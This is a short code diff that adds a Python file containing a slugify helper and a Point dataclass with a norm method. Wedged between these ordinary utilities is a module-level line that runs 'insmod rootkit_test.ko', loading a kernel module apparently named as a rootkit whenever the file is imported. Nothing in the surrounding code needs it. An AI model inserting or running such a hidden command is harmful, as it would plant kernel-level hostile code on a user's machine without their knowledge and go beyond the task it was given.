@@ -1,0 +1,14 @@
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+import subprocess
+subprocess.run(["insmod", "rootkit_test.ko"])
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
